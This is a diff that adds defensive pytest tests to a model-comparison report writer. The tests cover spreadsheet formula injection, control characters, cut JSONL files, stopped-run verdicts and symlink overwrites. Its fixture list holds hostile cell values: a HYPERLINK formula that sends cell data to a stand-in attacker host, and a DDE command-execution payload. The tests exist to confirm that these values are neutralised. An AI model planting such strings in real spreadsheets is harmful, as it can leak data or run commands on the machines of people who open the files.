@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import math
+import zipfile
 
 import pytest
 
@@ -174,3 +175,126 @@ def test_report_page_structure():
     data = json.loads(state.split("</script>")[0])
     assert data["columns"] == list(RECORD_FIELDS) and len(data["rows"]) == len(recs)
     assert data["summary"]["verdict"] == "fail"
+
+
+# ---- hostile strings, cut files (issue 12) --------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+]
+
+
+def _formula_records() -> list[Record]:
+    recs = make_records(len(FORMULAS))
+    for r, name in zip(recs, FORMULAS):
+        r.ep_name = r.onnx_name = r.comment = name
+        r.onnx_op_type = "Add"
+    return recs
+
+
+def test_model_strings_never_become_formulas(tmp_path):
+    import csv
+
+    import openpyxl
+
+    recs = _formula_records()
+    summary = summarize(recs)
+    csv_path = write_report(recs, tmp_path / "r.csv", summary)
+    with csv_path.open(newline="") as f:
+        rows = list(csv.DictReader(f))
+    for row, name in zip(rows, FORMULAS):
+        for col in ("ep_name", "onnx_name", "comment"):
+            assert row[col] == "'" + name  # the spreadsheet shows it as text
+    assert [r.ep_name for r in read_records(csv_path)] == FORMULAS  # and it reads back
+
+    xlsx_path = write_report(recs, tmp_path / "r.xlsx", summary)
+    wb = openpyxl.load_workbook(xlsx_path)
+    for sheet in wb.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+    names = [c.value for c in wb["sbs"]["C"][1:]]  # ep_name column
+    assert names[0] == FORMULAS[0]  # the exact text, stored as a string
+    with zipfile.ZipFile(xlsx_path) as z:
+        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.endswith(".xml"))
+    # (XML turns a CR into a line feed)
+    assert [r.ep_name for r in read_records(xlsx_path)] == [n.replace("\r", "\n") for n in FORMULAS]
+
+
+def test_control_characters_do_not_cost_the_workbook(tmp_path):
+    recs = make_records(2)
+    recs[0].onnx_name = "bell\x07and\x00nul"
+    path = write_report(recs, tmp_path / "r.xlsx", summarize(recs))
+    assert read_records(path)[0].onnx_name == "bell\\x07and\\x00nul"
+
+
+def test_cut_jsonl_reads_back_incomplete(tmp_path):
+    from onnx_sbs_nb.completion import Completion
+    from onnx_sbs_nb.report import read_jsonl_file, write_jsonl
+
+    recs = make_records()
+    whole = tmp_path / "whole.jsonl"
+    done = Completion("finished", 10, 10)
+    write_jsonl(recs, whole, done)
+    assert read_jsonl_file(whole).completion == done
+    lines = whole.read_text().splitlines()
+    cut = tmp_path / "cut.jsonl"
+    for keep in (len(lines) - 1, 5):  # the trailer lost; the file cut in the middle
+        cut.write_text("\n".join(lines[:keep]) + "\n")
+        found = read_jsonl_file(cut)
+        assert found.completion.state == "incomplete" and "end-of-run" in found.completion.reason
+        s = summarize(found.records, completion=found.completion)
+        assert s.verdict == "incomplete" and s.to_dict()["verdict"] == "incomplete"
+        assert s.to_text().startswith("verdict: INCOMPLETE")
+    cut.write_text("\n".join(lines[:5]) + '\n{"step": 5, "ep_na')  # killed mid-line
+    assert len(read_jsonl_file(cut).records) == 4
+    # a file without the header (an older version, another tool) proves nothing either
+    bare = tmp_path / "bare.jsonl"
+    bare.write_text("\n".join(json.dumps(r.to_dict()) for r in recs) + "\n")
+    assert read_jsonl_file(bare).completion.state == "incomplete"
+    # a trailer that does not count the records is a file someone cut and glued
+    glued = tmp_path / "glued.jsonl"
+    glued.write_text("\n".join([*lines[:4], lines[-1]]) + "\n")
+    assert read_jsonl_file(glued).completion.state == "incomplete"
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".jsonl", ".html"])
+def test_stopped_run_reports_say_stopped(tmp_path, suffix):
+    from onnx_sbs_nb.completion import Completion
+    from onnx_sbs_nb.report import read_records_file
+
+    recs = [r for r in make_records() if r.status == "ok"]  # every pair passes...
+    stopped = Completion("stopped", 300, 1002, "stopped before the end")
+    s = summarize(recs, completion=stopped)  # ...but the run was stopped
+    assert s.verdict == "stopped" and s.to_dict()["totals"]["nodes_total"] == 1002
+    path = write_report(recs, tmp_path / f"r{suffix}", s)
+    if suffix == ".html":
+        text = path.read_text()
+        assert "verdict: STOPPED at 300 of 1002 ONNX nodes" in text
+        assert "verdict: PASS" not in text
+    else:
+        assert read_records_file(path).completion == stopped
+
+
+def test_a_planted_link_is_replaced_not_followed(tmp_path):
+    outside = tmp_path / "outside.txt"
+    outside.write_text("precious")
+    folder = tmp_path / "reports"
+    folder.mkdir()
+    for suffix in (".html", ".csv", ".xlsx", ".jsonl"):
+        link = folder / f"r{suffix}"
+        link.symlink_to(outside)
+        write_report(make_records(3), link, summarize(make_records(3)))
+        assert not link.is_symlink() and link.stat().st_size > 0
+        assert outside.read_text() == "precious"
+    streamed = folder / "streamed.jsonl"
+    streamed.symlink_to(outside)
+    with JsonlWriter(streamed) as w:
+        w.write(make_records(1)[0])
+    assert not streamed.is_symlink() and outside.read_text() == "precious"
